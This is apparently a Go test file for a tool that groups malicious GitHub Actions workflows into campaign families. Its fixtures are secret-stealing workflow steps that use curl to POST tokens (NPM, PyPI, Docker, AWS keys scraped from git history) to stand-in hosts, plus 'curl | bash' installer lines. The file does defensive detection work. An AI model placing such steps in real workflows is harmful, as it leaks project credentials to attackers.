package family

import (
	"crypto/sha1"
	"fmt"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"pentimento/internal/campaign"
	"pentimento/internal/evidence"
	_ "pentimento/internal/seeded"
	"pentimento/internal/workflow"
)

// stealer is the shape of a campaign's file, with what differs from one victim to the next.
func stealer(name, job, url string, secrets ...string) string {
	var form []string
	for _, s := range secrets {
		form = append(form, s+"=${{ secrets."+s+" }}")
	}
	return "name: " + name + "\n\non:\n  workflow_dispatch:\n  push:\n\njobs:\n  " + job + ":\n    runs-on: ubuntu-latest\n\n    steps:\n" +
		"      - name: Prepare\n        run: echo \"CACHE_BUST=$(date +%s)\" >> $GITHUB_ENV\n\n      - name: " + name + "\n        run: |\n" +
		"          curl -s -X POST -d '" + strings.Join(form, "&") + "' " + url + "\n"
}

// uploader is a benign file of another style that sends a secret as well.
func uploader(n int) string {
	return fmt.Sprintf(`name: CI %d
on:
  pull_request:
  push:
    branches: [main]
jobs:
  test-%d:
    runs-on: ubuntu-22.04
    strategy:
      matrix:
        python: ["3.9", "3.%d"]
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: ${{ matrix.python }}
      - run: pip install -e .[test%d]
      - run: pytest --cov=src
      - name: Upload coverage
        env:
          TOKEN: ${{ secrets.COVERAGE_TOKEN }}
        run: curl -s -F "token=$TOKEN" -F file=@coverage.xml https://coverage.example.invalid/upload/v2
`, n, n, n, n)
}

func blobOf(text string) evidence.OID { return evidence.OID(fmt.Sprintf("%x", sha1.Sum([]byte(text)))) }

// version reads a text; a campaign makes it a finding all of whose steps leak.
func version(text, campaign, path string) Version {
	file := workflow.Parse([]byte(text))
	v := Version{Blob: blobOf(text), Campaign: campaign}
	if campaign == "" {
		v.Shape = Read([]byte(text), []string{path}, file, nil, len(file.Secrets) > 0)
		return v
	}
	v.Confidence = "high"
	v.Shape = Read([]byte(text), []string{path}, file, func(string, int) bool { return true }, true)
	return v
}

// gather makes families of versions.
func gather(versions ...Version) []Family {
	g := NewGathering()
	for _, v := range versions {
		g.Add(v)
	}
	return g.Families()
}

func blobs(members []Member, found bool) []evidence.OID {
	var out []evidence.OID
	for _, m := range members {
		if m.Found == found {
			out = append(out, m.Blob)
		}
	}
	return out
}

const listed = ".github/workflows/github_actions_security.yml"

func TestNewWaveIsARelative(t *testing.T) {
	first := stealer("Github Actions Security", "send-secrets", "https://bold-gull.example.invalid", "NPM_TOKEN", "PYPI_TOKEN")
	second := stealer("Code Quality", "quality", "http://198.51.100.2", "DOCKER_PASSWORD")
	third := strings.Replace(second, "-X POST", "-X POST --max-time 20", 1)
	third = strings.Replace(third, "on:\n  workflow_dispatch:\n", "on:\n", 1)
	versions := []Version{version(first, "wave-one", listed), version(second, "", ".github/workflows/quality.yml"), version(third, "", ".github/workflows/third.yml")}
	for n := range 50 {
		versions = append(versions, version(uploader(n), "", ".github/workflows/ci.yml"))
	}
	families := gather(versions...)
	if len(families) != 1 {
		t.Fatalf("%d families: %+v", len(families), families)
	}
	f := families[0]
	if got := blobs(f.Members, true); !slices.Equal(got, []evidence.OID{blobOf(first)}) {
		t.Errorf("findings %v", got)
	}
	want := []evidence.OID{blobOf(second), blobOf(third)}
	slices.Sort(want)
	if got := blobs(f.Members, false); !slices.Equal(got, want) {
		t.Errorf("relatives %v, want %v", got, want)
	}
	for _, m := range f.Members {
		if m.Blob == blobOf(third) && (m.How != JoinedNear || m.Score < NearEnough || m.Score >= 1) {
			t.Errorf("a version that differs by a flag and an event: %+v", m)
		}
	}
}

func TestHistoryOfOneProjectIsNoFamily(t *testing.T) {
	var versions []Version
	for n := range 100 {
		versions = append(versions, version(uploader(n), "", ".github/workflows/ci.yml"))
	}
	if got := gather(versions...); len(got) != 0 {
		t.Errorf("families without a finding: %+v", got)
	}
	// A campaign that adds its step to a file makes the file alike to what it was, and that was harmless.
	changed := uploader(7) + "      - run: curl -s -X POST -d 'NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://drop.example.invalid\n"
	file := workflow.Parse([]byte(changed))
	last := len(file.Jobs[0].Steps) - 1
	evil := Version{Blob: blobOf(changed), Confidence: "high"}
	evil.Shape = Read([]byte(changed), []string{".github/workflows/ci.yml"}, file, func(_ string, step int) bool { return step == last }, true)
	got := gather(append(versions, evil)...)
	if len(got) != 1 || len(got[0].Members) != 1 {
		t.Errorf("the harmless versions joined: %+v", got)
	}
}

func TestFindingsJoinByStep(t *testing.T) {
	step := "      - run: |\n          git log -p --all | grep -Eo 'AKIA[0-9A-Z]{16}' > out.txt\n          curl -s -X POST --data-binary @out.txt http://192.0.2.9/\n"
	a := "name: A\non: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          fetch-depth: 0\n" + step
	b := uploader(3) + step
	families := gather(version(a, "audit", ".github/workflows/a.yml"), version(b, "", ".github/workflows/b.yml"))
	if len(families) != 1 {
		t.Fatalf("%+v", families)
	}
	hit := version(b, "audit", ".github/workflows/b.yml")
	families = gather(version(a, "audit", ".github/workflows/a.yml"), hit)
	if len(families) != 1 || len(families[0].Members) != 2 {
		t.Errorf("two findings with one leaking step: %+v", families)
	}
	hit.Campaign = "another"
	if families = gather(version(a, "audit", ".github/workflows/a.yml"), hit); len(families) != 2 {
		t.Errorf("findings of two packs are joined by a step: %+v", families)
	}
}

// TestPacksAreNotJoinedByAThird: a finding of heuristics that is like those of two packs belongs to one of them.
func TestPacksAreNotJoinedByAThird(t *testing.T) {
	between := version(stealer("S", "j", "http://192.0.2.3", "A_TOKEN"), "x", listed)
	between.Campaign = ""
	families := gather(version(stealer("S", "j", "http://192.0.2.1 -k", "A_TOKEN"), "one", listed),
		version(stealer("S", "j", "http://192.0.2.2 -v", "A_TOKEN"), "two", listed), between)
	if len(families) != 2 {
		t.Errorf("%d families: %+v", len(families), families)
	}
	for _, f := range families {
		if len(f.Campaigns) > 1 {
			t.Errorf("a family of %v", f.Campaigns)
		}
	}
}

// TestEverydayFilesAreNoRelatives: a finding that is no more than one command is the same as thousands of harmless files but for names and hosts.
func TestEverydayFilesAreNoRelatives(t *testing.T) {
	file := func(name, job, run string) string {
		return "name: " + name + "\non: push\njobs:\n  " + job + ":\n    runs-on: ubuntu-latest\n    steps:\n      - run: " + run + "\n"
	}
	hook := "curl -X POST -d 'token=${{ secrets.%s }}' https://%s.example.net/deploy"
	script := "curl -sSL https://%s.example.net/install.sh | bash"
	for _, pair := range [][2]string{
		{file("S", "steal", fmt.Sprintf(hook, "A_TOKEN", "drop")), file("Deploy", "deploy", fmt.Sprintf(hook, "DEPLOY_TOKEN", "hooks"))},
		{file("S", "steal", fmt.Sprintf(script, "drop")), file("Setup", "setup", fmt.Sprintf(script, "get"))},
	} {
		for _, f := range gather(version(pair[0], "x", listed), version(pair[1], "", ".github/workflows/deploy.yml")) {
			if len(f.Members) != 1 {
				t.Errorf("relatives of one command: %+v", f.Members)
			}
		}
	}
}

// TestWhatNobodyOwnsIsNoIndicator: the runner and its network, patterns, and how services call their interfaces.
func TestWhatNobodyOwnsIsNoIndicator(t *testing.T) {
	text := "on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n"
	for _, url := range []string{"http://localhost:8080/a/b/c", "http://127.0.0.1/a/b/c", "http://10.1.2.3/a/b/c", "http://redis:6379/a/b/c", "http://vault.corp.internal/a/b/c",
		"https://*.com/a/b/c", "https://api.github.com/user/repos?per_page=100", "https://api.slack.com/api/chat.postMessage"} {
		text += "          curl -d '${{ secrets.A }}' " + url + "\n"
	}
	for _, x := range version(text, "x", listed).Shape.leaky {
		if x.Kind == URLPart || x.Kind == Host && !campaign.Service(x.Value) {
			t.Errorf("%+v", x)
		}
	}
}

// TestSecretsNamedInTheEnvironment: a field that bears the name of the variable beside it is the same as one that bears the name of the secret.
func TestSecretsNamedInTheEnvironment(t *testing.T) {
	first := stealer("S", "j", "http://192.0.2.1", "A_TOKEN")
	for _, by := range []string{"$A_TOKEN", "${A_TOKEN}"} {
		second := strings.Replace(first, "        run: |\n          curl", "        env:\n          A_TOKEN: ${{ secrets.A_TOKEN }}\n        run: |\n          curl", 1)
		second = strings.Replace(second, "=${{ secrets.A_TOKEN }}", "="+by, 1)
		second = strings.Replace(strings.Replace(second, "192.0.2.1", "192.0.2.2", 1), "-d '", "-d \"", 1)
		second = strings.Replace(second, "' http", "\" http", 1)
		families := gather(version(first, "x", listed), version(second, "", listed))
		if len(families) != 1 || len(families[0].Members) != 2 {
			t.Errorf("%s: %+v", by, families)
		}
	}
}

// TestFindingsWithoutFeatures: of findings too short for a sketch the same one founds the family whatever comes first.
func TestFindingsWithoutFeatures(t *testing.T) {
	a, b := version("x\n", "x", listed), version("y\n", "x", listed)
	if one, other := gather(a, b), gather(b, a); len(one) != 1 || len(other) != 1 || one[0].ID != other[0].ID {
		t.Errorf("%+v, %+v", one, other)
	}
}

func TestTinyFilesTellNothing(t *testing.T) {
	a, b := "on: push\njobs: {}\n", "on: push\njobs: {} # again\n"
	if got := gather(version(a, "x", listed), version(b, "", listed)); len(got) != 1 || len(got[0].Members) != 1 {
		t.Errorf("%+v", got)
	}
}

// TestSkeletonIsOfTheMaker: whatever a maker changes from victim to victim, the skeleton stays.
func TestSkeletonIsOfTheMaker(t *testing.T) {
	word := rapid.StringMatching(`[A-Za-z][A-Za-z0-9]{0,9}`)
	name := rapid.StringMatching(`[A-Z][A-Z_]{2,12}[A-Z0-9]`)
	url := rapid.OneOf(rapid.StringMatching(`https://[a-z]{3,9}\.example\.invalid`), rapid.StringMatching(`http://192\.0\.2\.[1-9]`))
	want := Skeleton([]byte(stealer("Security", "scan", "https://a.example.invalid", "NPM_TOKEN")))
	rapid.Check(t, func(t *rapid.T) {
		secrets := rapid.SliceOfN(name, 1, 12).Draw(t, "secrets")
		text := stealer(strings.Join(rapid.SliceOfN(word, 1, 4).Draw(t, "name"), " "), word.Draw(t, "job"), url.Draw(t, "url"), secrets...)
		if rapid.Bool().Draw(t, "comment") {
			text = strings.Replace(text, "\njobs:", "\n# "+word.Draw(t, "comment")+"\njobs:", 1)
		}
		if rapid.Bool().Draw(t, "indented otherwise") {
			text = strings.ReplaceAll(text, "\n      ", "\n    ")
		}
		if got := Skeleton([]byte(text)); !reflect.DeepEqual(got, want) {
			t.Fatalf("%s\n%v\nwant %v", text, got, want)
		}
	})
}

// TestOrderDoesNotMatter: families are the same in whatever order versions come.
func TestOrderDoesNotMatter(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		r := rand.New(rand.NewPCG(rapid.Uint64().Draw(t, "seed"), 1))
		var versions []Version
		for n := range 30 {
			text := stealer("S", "j", fmt.Sprintf("http://192.0.2.%d", n), "A_TOKEN", "B_TOKEN")
			for range r.IntN(3) {
				text = strings.Replace(text, "-s", []string{"-s -k", "-sS", "--silent"}[r.IntN(3)], 1)
			}
			campaign := []string{"", "", "one", "two"}[r.IntN(4)]
			versions = append(versions, version(text, campaign, listed), version(uploader(n), "", listed))
		}
		want := gather(versions...)
		r.Shuffle(len(versions), func(i, j int) { versions[i], versions[j] = versions[j], versions[i] })
		if got := gather(versions...); !reflect.DeepEqual(got, want) {
			t.Fatalf("got  %+v\nwant %+v", got, want)
		}
		members := map[evidence.OID]bool{}
		for _, f := range want {
			for _, m := range f.Members {
				if members[m.Blob] {
					t.Fatalf("%s is in two families", m.Blob)
				}
				members[m.Blob] = true
			}
			if len(blobs(f.Members, true)) == 0 {
				t.Fatal("a family without a finding")
			}
		}
		for _, v := range versions {
			if v.Found() && !members[v.Blob] {
				t.Fatalf("finding %s is in no family", v.Blob)
			}
		}
	})
}

func TestSketchTellsLikeness(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		n := rapid.IntRange(1, 2000).Draw(t, "features")
		share := rapid.IntRange(0, n).Draw(t, "in common")
		var a, b []string
		for i := range n {
			a = append(a, fmt.Sprint("f", i))
			if i < share {
				b = append(b, a[i])
			} else {
				b = append(b, fmt.Sprint("g", i))
			}
		}
		want := float64(share) / float64(2*n-share)
		got := sketchOf(nil, a).likeness(sketchOf(nil, b))
		bound := 0.0
		if n > sketchSize { // an estimate of sketchSize draws: five standard deviations
			bound = 5 * 0.5 / 13.8
		} else if 2*n-share > sketchSize {
			bound = 0.01
		}
		if got < want-bound-1e-9 || got > want+bound+1e-9 {
			t.Fatalf("%d of %d in common: likeness %.3f, want %.3f", share, n, got, want)
		}
	})
}

func FuzzSkeleton(f *testing.F) {
	f.Add(stealer("S", "j", "https://a.example.invalid", "A", "B"))
	f.Add(uploader(1))
	f.Add("on: [push, {a: 'b]\n- - - x: |\n  ${{ secrets.\n\t'\"`$(")
	f.Fuzz(func(t *testing.T, text string) {
		got := Skeleton([]byte(text))
		if len(got) > maxTokens+len(text) || len(got) > len(text)*2+2 {
			t.Fatalf("%d tokens of %d bytes", len(got), len(text))
		}
		if again := Skeleton([]byte(text)); !slices.Equal(got, again) {
			t.Fatal("not the same twice")
		}
		for _, tok := range got {
			if strings.ContainsAny(tok, "\n\x00") && !strings.ContainsAny(text, "\x00") {
				t.Fatalf("token %q", tok)
			}
		}
		version(text, "x", listed)
	})
}

// BenchmarkFamilies forms the families of 20,000 versions, of which 200 are findings of a dozen shapes.
func BenchmarkFamilies(b *testing.B) {
	var versions []Version
	for n := range 20_000 {
		text := uploader(n%50) + strings.Repeat(fmt.Sprintf("      - run: make step%c\n      - uses: a/b%d@v1\n", 'a'+n%26, n%977), n%7)
		campaign := ""
		if n%100 == 0 {
			text = strings.Replace(stealer("S", "j", fmt.Sprintf("http://192.0.2.%d", n%250), "A_TOKEN"), "-s", "-s"+strings.Repeat(" -k -v", n/100%12), 1) + fmt.Sprintf("# %d\n", n)
			campaign = "one"
		}
		versions = append(versions, version(text, campaign, listed))
	}
	b.ResetTimer()
	for b.Loop() {
		if got := gather(versions...); len(got) == 0 {
			b.Fatal("no family")
		}
	}
}

func BenchmarkRead(b *testing.B) {
	text := []byte(uploader(3))
	file := workflow.Parse(text)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		Read(text, nil, file, nil, true)
	}
}
